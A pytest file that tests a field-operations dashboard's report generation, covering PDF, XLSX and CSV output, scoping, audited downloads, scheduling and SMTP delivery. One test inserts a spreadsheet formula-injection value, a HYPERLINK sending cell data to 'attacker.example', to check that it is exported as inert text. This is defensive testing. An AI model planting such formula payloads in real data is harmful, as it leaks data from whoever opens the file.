"""Reports (issue 8): built from the demo data in every format, scoped to the author, downloaded
through the guard, made by schedules once per period, e-mailed through a real SMTP server."""

from __future__ import annotations

import csv
import html
import io
import re
import shutil
import subprocess
import threading
import zipfile
from datetime import UTC, date, datetime, time, timedelta
from email import message_from_bytes
from email.policy import default

import h3
import pytest
from aiosmtpd.controller import Controller
from openpyxl import load_workbook
from PIL import Image

from dashboard.analytics.efficiency import rebuild
from dashboard.analytics.scales import SCALES
from dashboard.cli.main import main
from dashboard.core.i18n import _
from dashboard.core.permissions import Viewer, scope_for
from dashboard.demo.history import seed_history
from dashboard.reports.build import build_queued, queue_report
from dashboard.reports.gather import gather
from dashboard.reports.model import ReportError
from dashboard.reports.periods import parse_period
from dashboard.reports.render.tables import employee_columns, header_lines, team_columns
from dashboard.reports.render.xlsx import render_xlsx
from dashboard.reports.schedule import ReportRunner, queue_due_schedules
from data import audit, reports, users
from data.positions import PositionRow, insert_positions
from tests.browser import screenshot_path
from tests.conftest import free_port, make_app, signed_in_client

MANAGER = Viewer(None, "manager", "manager", None, scope_for("manager", None, []))


def last_month(today: date) -> date:
    return (today.replace(day=1) - timedelta(days=1)).replace(day=1)


def viewer_of(rt, username: str) -> Viewer:
    row = users.get_user(rt.db, users.user_by_name(rt.db, username)["id"])
    return Viewer(row["id"], username, row["role"], row["employee_id"], scope_for(row["role"], None, row["team_ids"]))


def walk_visits(rt, day: date) -> None:
    """Positions of everyone's visits of one day (20 min at each customer, a fix a minute), then the rollups."""
    tasks = rt.db.fetch_all(
        """SELECT t.employee_id, t.window_start, c.lat, c.lon FROM tasks t JOIN customers c ON c.id = t.customer_id
           WHERE t.window_start >= %s AND t.window_start < %s ORDER BY t.employee_id, t.window_start""",
        (datetime.combine(day, time(0), rt.settings.tz), datetime.combine(day, time(23, 59), rt.settings.tz)),
    )
    rows = [
        PositionRow(
            t["employee_id"],
            t["window_start"] + timedelta(minutes=m),
            t["lat"],
            t["lon"],
            0.0,
            None,
            10.0,
            h3.str_to_int(h3.latlng_to_cell(t["lat"], t["lon"], 10)),
            "test",
        )
        for t in tasks
        for m in range(20)
    ]
    insert_positions(rt.db, rows)
    rebuild(rt.db, day - timedelta(days=1), day + timedelta(days=1), rt.settings.timezone)


@pytest.fixture
def history_rt(seeded_rt):
    """The demo city with last month and this month worked (tasks, visits, surveys) and two days of positions
    (weekdays: the demo's history has weekends off)."""
    today = datetime.now(seeded_rt.settings.tz).date()
    first = last_month(last_month(today))
    seed_history(
        seeded_rt.db, first, today - timedelta(days=1), seeded_rt.settings.tz, stay_min_s=seeded_rt.settings.stay_min_s
    )
    for day in (last_month(today) + timedelta(days=2), last_month(today) + timedelta(days=9)):
        walk_visits(seeded_rt, day + timedelta(days=max(0, 7 - day.weekday()) if day.weekday() >= 5 else 0))
    return seeded_rt


def build(rt, author: Viewer, period: str, formats: list[str], language: str = "en", teams=None) -> int:
    report_id = queue_report(rt, author, parse_period(period), formats, language, teams)
    assert build_queued(rt, report_id) == report_id
    row = reports.get_report(rt.db, author.scope, report_id)
    assert row["state"] == "done", row["error"]
    return report_id


def files_of(rt, report_id: int) -> dict[str, bytes]:
    return {row["name"]: bytes(row["content"]) for row in reports.report_files(rt.db, report_id)}


def pdf_pages(pdf: bytes, tmp_path, name: str) -> list[Image.Image]:
    """The PDF's pages as images (pdftoppm), also kept in tests/artifacts to be looked at."""
    (tmp_path / f"{name}.pdf").write_bytes(pdf)
    subprocess.run(["pdftoppm", "-r", "60", "-png", str(tmp_path / f"{name}.pdf"), str(tmp_path / name)], check=True)
    pages = sorted(tmp_path.glob(f"{name}-*.png"))
    for n, path in enumerate(pages, start=1):
        shutil.copy(path, screenshot_path(f"report-{name}-page{n}"))
    return [Image.open(path).convert("RGB") for path in pages]


def share_of_colour(image: Image.Image, rgb: tuple[int, int, int], tolerance: int = 40) -> float:
    pixels = image.get_flattened_data()
    close = sum(1 for p in pixels if sum(abs(a - b) for a, b in zip(p, rgb, strict=True)) <= tolerance)
    return close / len(pixels)


def test_monthly_pdf_has_kpis_charts_heatmap_and_tables(history_rt, tmp_path):
    month = last_month(datetime.now(history_rt.settings.tz).date()).strftime("%Y-%m")
    report_id = build(history_rt, MANAGER, month, ["pdf"])
    pdf = next(content for name, content in files_of(history_rt, report_id).items() if name.endswith(".pdf"))
    text = subprocess.run(["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True).stdout.decode()
    for expected in (
        "Field operations report",
        "Whole organisation",
        "Author",
        "manager",
        "Generated",
        "Key figures",
        "On-time visits (%)",
        "Visits per person-day",
        "Customer satisfaction",
        "Teams",
        "Employees",
        "E0001",
    ):
        assert expected in text
    pages = pdf_pages(pdf, tmp_path, "monthly-en")
    assert len(pages) >= 3
    assert share_of_colour(pages[0], (0, 114, 178)) > 0.01  # the visits chart's blue bars
    assert share_of_colour(pages[1], (0, 158, 115)) > 0.01  # tasks-done green in the outcomes chart
    # Heatmap cells in the bands of the fixed tracked-hours scale, drawn at 85 % opacity on white.
    bands = [tuple(int(colour[i : i + 2], 16) for i in (1, 3, 5)) for colour in SCALES["tracked_hours"].colors]
    on_white = [tuple(round(0.85 * v + 0.15 * 255) for v in rgb) for rgb in bands]
    assert sum(share_of_colour(pages[2], rgb, 12) for rgb in on_white) > 0.0005
    assert "Hours tracked per day in each hexagon of about 0.1 km²" in " ".join(text.split())
    assert "No location history" not in text


def test_chinese_report_embeds_noto_cjk_and_renders_chinese_text(history_rt, tmp_path):
    month = last_month(datetime.now(history_rt.settings.tz).date()).strftime("%Y-%m")
    report_id = build(history_rt, MANAGER, month, ["pdf"], language="zh-CN")
    pdf = next(content for name, content in files_of(history_rt, report_id).items() if name.endswith(".pdf"))
    (tmp_path / "zh.pdf").write_bytes(pdf)
    fonts = subprocess.run(["pdffonts", str(tmp_path / "zh.pdf")], capture_output=True, check=True, text=True).stdout
    assert "NotoSansCJK" in fonts.replace("-", "")
    assert all(line.split()[-5] == "yes" for line in fonts.splitlines()[2:])  # every font embedded
    text = subprocess.run(
        ["pdftotext", str(tmp_path / "zh.pdf"), "-"], capture_output=True, check=True, text=True
    ).stdout
    assert "现场运营报告" in text and "整个组织" in text and "关键指标" in text
    pages = pdf_pages(pdf, tmp_path, "monthly-zh")
    title = pages[0].crop((0, 0, pages[0].width, pages[0].height // 8))
    assert share_of_colour(title, (31, 58, 95), 60) > 0.003  # the title's glyphs are drawn, in the title colour


def test_xlsx_and_csv_hold_the_same_tables(history_rt):
    month = last_month(datetime.now(history_rt.settings.tz).date()).strftime("%Y-%m")
    report_id = build(history_rt, MANAGER, month, ["xlsx", "csv"])
    files = files_of(history_rt, report_id)
    xlsx = next(content for name, content in files.items() if name.endswith(".xlsx"))
    book = load_workbook(io.BytesIO(xlsx))
    assert book.sheetnames == ["Summary", "Daily", "Teams", "Employees", "Coverage", "Satisfaction"]
    employees = list(book["Employees"].iter_rows(values_only=True))
    assert employees[0][:3] == ("Code", "Name", "Team") and len(employees) == 1 + 12
    csv_files = {name.rsplit("-", 1)[1]: content for name, content in files.items() if name.endswith(".csv")}
    assert set(csv_files) == {"kpis.csv", "daily.csv", "teams.csv", "employees.csv", "satisfaction.csv"}
    employee_csv = csv_files["employees.csv"].decode("utf-8-sig").splitlines()
    assert len(employee_csv) == 1 + 12
    visits_in_xlsx = sum(row[3] for row in employees[1:])
    visits_in_csv = sum(int(line.split(",")[3]) for line in employee_csv[1:])
    assert visits_in_xlsx == visits_in_csv > 0
    assert zipfile.is_zipfile(io.BytesIO(xlsx))


def test_report_csv_and_xlsx_write_formula_like_names_as_text(seeded_rt):
    formula = '=HYPERLINK("https://attacker.example/?d="&A1,"Open")'
    seeded_rt.db.execute("UPDATE employees SET name = %s WHERE code = 'E0001'", (formula,))
    seeded_rt.db.execute("UPDATE teams SET name = '@SUM(1+1)' WHERE name = 'North'")
    files = files_of(seeded_rt, build(seeded_rt, MANAGER, "2026-01", ["xlsx", "csv"]))
    xlsx = next(content for name, content in files.items() if name.endswith(".xlsx"))
    cells = [cell for sheet in load_workbook(io.BytesIO(xlsx)).worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert {"'" + formula, "'@SUM(1+1)"} <= texts  # the apostrophe the /export CSVs use: shown as text
    employees_csv = next(content for name, content in files.items() if name.endswith("-employees.csv"))
    rows = list(csv.reader(io.StringIO(employees_csv.decode("utf-8-sig"))))
    assert ["'" + formula, "'@SUM(1+1)"] in [row[1:3] for row in rows]
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@"))]


def test_supervisor_report_holds_only_their_teams(history_rt):
    supervisor = viewer_of(history_rt, "supervisor")
    month = last_month(datetime.now(history_rt.settings.tz).date()).strftime("%Y-%m")
    report_id = queue_report(history_rt, supervisor, parse_period(month), ["csv"], "en")
    report = reports.claim_report(history_rt.db, report_id)
    data = gather(history_rt, report)
    assert {row["team_name"] for row in data.employees} == {"North"}
    other = history_rt.db.fetch_one("SELECT id FROM teams WHERE name = 'South'")["id"]
    with pytest.raises(ReportError):
        queue_report(history_rt, supervisor, parse_period(month), ["csv"], "en", [other])
    with pytest.raises(ReportError):
        queue_report(history_rt, viewer_of(history_rt, "field"), parse_period(month), ["csv"], "en")


def test_downloads_are_scoped_and_audited(history_rt, seeded_settings):
    month = last_month(datetime.now(history_rt.settings.tz).date()).strftime("%Y-%m")
    report_id = build(history_rt, viewer_of(history_rt, "manager"), month, ["pdf"])
    name = next(iter(files_of(history_rt, report_id)))
    app = make_app(seeded_settings)
    try:
        manager = signed_in_client(app, "manager")
        response = manager.get(f"/reports/file/{report_id}/{name}")
        assert response.status_code == 200 and response.data.startswith(b"%PDF")
        assert "attachment" in response.headers["Content-Disposition"]
        looks = audit.recent(history_rt.db, action="export")
        assert looks and looks[0]["subjects"] == 12 and looks[0]["detail"]["report"] == report_id
        assert signed_in_client(app, "supervisor").get(f"/reports/file/{report_id}/{name}").status_code == 404
        assert signed_in_client(app, "field").get(f"/reports/file/{report_id}/{name}").status_code == 403
        assert app.server.test_client().get(f"/reports/file/{report_id}/{name}").status_code == 401
        assert manager.get(f"/reports/file/{report_id}/missing.pdf").status_code == 404
    finally:
        app.server.extensions["fieldops"].close()


def test_cli_report_writes_the_files(history_rt, seeded_settings, monkeypatch, tmp_path, capsys):
    for key, value in (
        ("DATABASE_URL", seeded_settings.database_url),
        ("REDIS_URL", seeded_settings.redis_url),
        ("FIELDOPS_REDIS_PREFIX", seeded_settings.redis_prefix),
        ("SECRET_KEY", seeded_settings.secret_key),
    ):
        monkeypatch.setenv(key, value)
    month = last_month(datetime.now(history_rt.settings.tz).date()).strftime("%Y-%m")
    args = ["report", "--period", month, "--format", "pdf,xlsx", "--teams", "North,East", "--out", str(tmp_path)]
    assert main([*args, "--author", "manager"]) == 0
    written = sorted(path.suffix for path in tmp_path.iterdir())
    assert written == [".pdf", ".xlsx"]
    assert main(["report", "--period", month, "--format", "doc", "--out", str(tmp_path)]) == 2
    assert "pdf, xlsx, csv" in capsys.readouterr().err
    assert main(["report", "--period", month, "--teams", "South", "--author", "supervisor"]) == 2


def test_schedule_fires_once_per_period_however_many_runners(history_rt):
    manager = viewer_of(history_rt, "manager")
    from dashboard.reports.schedule import add_schedule

    schedule_id = add_schedule(
        history_rt,
        manager,
        name="Monday report",
        cadence="weekly",
        day=0,
        at_time="08:00",
        team_ids=None,
        formats=["pdf"],
        language="en",
        email_to=[],
    )
    made = datetime.now(UTC) - timedelta(days=8)
    history_rt.db.execute("UPDATE report_schedules SET created_at = %s WHERE id = %s", (made, schedule_id))
    queued: list[int] = []
    runners = [threading.Thread(target=lambda: queued.extend(queue_due_schedules(history_rt))) for _ in range(4)]
    for runner in runners:
        runner.start()
    for runner in runners:
        runner.join()
    assert len(queued) == 1
    assert queue_due_schedules(history_rt) == []
    ReportRunner(history_rt).run_once()
    report = reports.get_report(history_rt.db, manager.scope, queued[0])
    assert report["state"] == "done" and report["schedule_id"] == schedule_id
    assert (report["period_end"] - report["period_start"]).days == 6 and report["period_start"].weekday() == 0


class Inbox:
    def __init__(self) -> None:
        self.messages: list = []

    async def handle_DATA(self, server, session, envelope):
        self.messages.append(envelope)
        return "250 OK"


def test_scheduled_report_is_emailed_through_smtp(history_rt):
    from dataclasses import replace

    from dashboard.reports.schedule import add_schedule

    inbox = Inbox()
    port = free_port()
    controller = Controller(inbox, hostname="127.0.0.1", port=port)
    controller.start()
    try:
        history_rt.settings = replace(history_rt.settings, smtp_url=f"smtp://127.0.0.1:{port}")
        manager = viewer_of(history_rt, "manager")
        schedule_id = add_schedule(
            history_rt,
            manager,
            name="Monthly",
            cadence="monthly",
            day=1,
            at_time="00:00",
            team_ids=None,
            formats=["xlsx"],
            language="zh-CN",
            email_to=["ceo@example.com"],
        )
        made = datetime.now(UTC) - timedelta(days=40)
        history_rt.db.execute("UPDATE report_schedules SET created_at = %s WHERE id = %s", (made, schedule_id))
        ReportRunner(history_rt).run_once()
        assert len(inbox.messages) == 1
        message = inbox.messages[0]
        assert message.rcpt_tos == ["ceo@example.com"]
        parsed = message_from_bytes(message.content, policy=default)
        assert "FieldOps" in parsed["Subject"]
        attachments = [part.get_filename() for part in parsed.iter_attachments()]
        assert len(attachments) == 1 and attachments[0].endswith(".xlsx")
        ReportRunner(history_rt).run_once()
        assert len(inbox.messages) == 1  # sent once
        with pytest.raises(ReportError):
            add_schedule(
                history_rt,
                manager,
                name="x",
                cadence="weekly",
                day=0,
                at_time="8am",
                team_ids=None,
                formats=["pdf"],
                language="en",
                email_to=[],
            )
    finally:
        controller.stop()


def test_a_month_to_date_is_compared_with_the_same_days_of_the_month_before(history_rt):
    """Made at a pinned noon on the 14th, a month's report covers days 1–14 and compares them with days 1–14 of the
    month before, not all of it, and says so in the header the PDF and the XLSX share."""
    rt = history_rt
    month = last_month(datetime.now(rt.settings.tz).date())  # seeded whole, as is the month before
    before = last_month(month)
    report_id = queue_report(rt, MANAGER, parse_period(month.strftime("%Y-%m")), ["xlsx"], "en")
    report = reports.claim_report(rt.db, report_id)
    on_the_14th = gather(rt, report, now=datetime.combine(month.replace(day=14), time(12), rt.settings.tz))
    finished = gather(
        rt, report, now=datetime.combine(month.replace(day=28) + timedelta(days=10), time(12), rt.settings.tz)
    )

    assert (on_the_14th.covered.first_day, on_the_14th.covered.last_day) == (month, month.replace(day=14))
    assert (on_the_14th.previous.first_day, on_the_14th.previous.last_day) == (before, before.replace(day=14))
    assert [row["day"] for row in on_the_14th.previous_daily] == [before + timedelta(days=n) for n in range(14)]
    visits = {kpi["key"]: kpi for kpi in on_the_14th.kpis}["visits"]
    whole_month_before = {kpi["key"]: kpi for kpi in finished.kpis}["visits"]["previous"]
    assert visits["value"] == sum(row["visits"] for row in on_the_14th.daily) > 0
    assert visits["previous"] == sum(row["visits"] for row in on_the_14th.previous_daily) < whole_month_before

    header = dict(header_lines(on_the_14th))
    assert header["Compared with"] == f"1–14 {before:%B %Y} (the same days of the period before)"
    assert header["Period"] == f"{month:%B %Y}, to date (1–14 {month:%B %Y})"
    assert dict(header_lines(finished))["Compared with"] == f"{before:%B %Y}"
    summary = list(load_workbook(io.BytesIO(render_xlsx(on_the_14th)))["Summary"].iter_rows(values_only=True))
    assert ("Compared with", header["Compared with"]) in [row[:2] for row in summary]


# Issue 16: the PDF an executive reads.
ORANGE_RGB = (230, 159, 0)  # dashboard/core/palette.ORANGE: the compared period's line


def pdf_words(pdf: bytes) -> list[list[tuple[float, float, str]]]:
    """Each page's words as pdftotext places them: (top, left, text), top to bottom, left to right."""
    layout = subprocess.run(["pdftotext", "-bbox-layout", "-", "-"], input=pdf, capture_output=True, check=True)
    pages = re.findall(r"<page .*?</page>", layout.stdout.decode(), flags=re.S)
    word = r'<word xMin="([\d.]+)" yMin="([\d.]+)"[^>]*>([^<]*)</word>'
    return [
        sorted((round(float(top), 1), float(left), html.unescape(text)) for left, top, text in re.findall(word, page))
        for page in pages
    ]


def header_words_under(pages: list[list[tuple[float, float, str]]], heading: str) -> list[str]:
    """The words of a table's header row: below the heading alone on its line, above the first line with a digit
    (every row of figures has one; no header has)."""
    for words in pages:
        tops = {top for top, _left, _text in words}
        lines = [[text for t, _left, text in words if t == top] for top in sorted(tops)]
        starts = [n for n, line in enumerate(lines) if line == [heading]]
        if starts:
            header = []
            for line in lines[starts[0] + 1 :]:
                if any(ch.isdigit() for text in line for ch in text):
                    return header
                header.extend(line)
    raise AssertionError(f"no table under {heading!r}")


def inked_share(page: Image.Image) -> float:
    """The share of the page's printable height (inside its top and bottom margins) that has anything printed."""
    grey = page.convert("L")
    top, bottom = round(grey.height * 16 / 297), round(grey.height * (297 - 18) / 297)
    pixels = grey.load()
    inked = sum(1 for y in range(top, bottom) if any(pixels[x, y] < 245 for x in range(grey.width)))
    return inked / (bottom - top)


def page_images(pdf: bytes, tmp_path, shots: str) -> list[Image.Image]:
    """The PDF's pages as images at 90 dpi, each kept as the screenshot `{shots}-p{n}` to be looked at."""
    (tmp_path / f"{shots}.pdf").write_bytes(pdf)
    subprocess.run(["pdftoppm", "-r", "90", "-png", str(tmp_path / f"{shots}.pdf"), str(tmp_path / shots)], check=True)
    paths = sorted(tmp_path.glob(f"{shots}-*.png"))
    for n, path in enumerate(paths, start=1):
        shutil.copy(path, screenshot_path(f"{shots}-p{n}"))
    return [Image.open(path).convert("RGB") for path in paths]


def pdf_text(pdf: bytes) -> str:
    """The PDF's text, its runs of white space as one space."""
    return " ".join(
        subprocess.run(["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True).stdout.decode().split()
    )


@pytest.mark.parametrize("language", ["en", "zh-CN"])
def test_pdf_pages_are_filled_headers_whole_and_hexagons_explained(history_rt, tmp_path, language):
    month = last_month(datetime.now(history_rt.settings.tz).date()).strftime("%Y-%m")
    report_id = build(history_rt, MANAGER, month, ["pdf"], language=language)
    pdf = next(content for name, content in files_of(history_rt, report_id).items() if name.endswith(".pdf"))
    pages = page_images(pdf, tmp_path, f"i16-report-{language}")

    assert share_of_colour(pages[0], ORANGE_RGB) > 0.0005  # the compared month's line in the visits chart

    # No near-empty page: every page but the last has print on at least 15 % of its height.
    shares = [inked_share(page) for page in pages]
    assert len(pages) <= 4 and all(share >= 0.15 for share in shares[:-1]), shares

    # Each header reads whole words: a narrow column wraps between them ("Visits per / day"), never in one.
    words = pdf_words(pdf)
    for heading, columns in ((_("Teams", language), team_columns), (_("Employees", language), employee_columns)):
        expected = [word for _key, header, _get in columns(language) for word in header.split()]
        assert sorted(header_words_under(words, heading)) == sorted(expected)

    text = pdf_text(pdf)
    # The period has its own line; without a chosen team there is no filter to name.
    assert _("Filters", language) not in text
    # The heatmap's cells in words: their average area at H3 resolution 9, not the resolution's number.
    area = f"{h3.average_hexagon_area(9, unit='km^2'):.1g}"
    assert area == "0.1" and "H3" not in text
    expected = {"en": f"in each hexagon of about {area} km²", "zh-CN": f"每个约 {area} 平方公里的六边形"}[language]
    assert expected in text


@pytest.mark.parametrize("language", ["en", "zh-CN"])
def test_a_period_without_data_says_so_instead_of_drawing_empty_charts(seeded_rt, tmp_path, language):
    """January 2026 has no history in the demo: no visit, task or survey answer."""
    report_id = build(seeded_rt, MANAGER, "2026-01", ["pdf"], language=language)
    pdf = next(content for name, content in files_of(seeded_rt, report_id).items() if name.endswith(".pdf"))
    text = pdf_text(pdf)
    no_data = _("No data for this period.", language)
    assert text.count(no_data) >= 3  # visits per day, task outcomes, satisfaction
    assert _("No location history in this period.", language) in text
    pages = page_images(pdf, tmp_path, f"i16-report-{language}-empty")
    assert all(share_of_colour(page, (0, 114, 178)) < 0.001 for page in pages)  # no chart's blue is drawn
    assert all(inked_share(page) >= 0.15 for page in pages[:-1])


def test_a_compared_period_without_visits_draws_no_line_along_zero(history_rt, tmp_path):
    """The first month of the seeded history is compared with a month of none: its bars, and no orange line."""
    first_month = last_month(last_month(datetime.now(history_rt.settings.tz).date())).strftime("%Y-%m")
    report_id = build(history_rt, MANAGER, first_month, ["pdf"])
    pdf = next(content for name, content in files_of(history_rt, report_id).items() if name.endswith(".pdf"))
    first_page = page_images(pdf, tmp_path, "i16-report-en-no-previous")[0]
    assert share_of_colour(first_page, (0, 114, 178)) > 0.01
    assert share_of_colour(first_page, ORANGE_RGB) < 0.0002


def test_filter_line_names_the_chosen_teams_and_scope_stays_the_authors(history_rt):
    month = last_month(datetime.now(history_rt.settings.tz).date()).strftime("%Y-%m")
    north, east = (
        history_rt.db.fetch_one("SELECT id FROM teams WHERE name = %s", (n,))["id"] for n in ("North", "East")
    )
    chosen = queue_report(history_rt, MANAGER, parse_period(month), ["csv"], "en", [north, east])
    lines = dict(header_lines(gather(history_rt, reports.claim_report(history_rt.db, chosen))))
    assert lines["Scope"] == "Whole organisation"
    assert lines["Filters"] == "Teams: East, North"  # the teams' names, not the period again

    whole = queue_report(history_rt, MANAGER, parse_period(month), ["csv"], "zh-CN")
    lines = dict(header_lines(gather(history_rt, reports.claim_report(history_rt.db, whole))))
    assert "筛选条件" not in lines and lines["范围"] == "整个组织"

    supervisor = viewer_of(history_rt, "supervisor")  # their scope line names their teams: no filter repeats it
    own = queue_report(history_rt, supervisor, parse_period(month), ["csv"], "en", [north])
    lines = dict(header_lines(gather(history_rt, reports.claim_report(history_rt.db, own))))
    assert lines["Scope"] == "Teams: North" and "Filters" not in lines
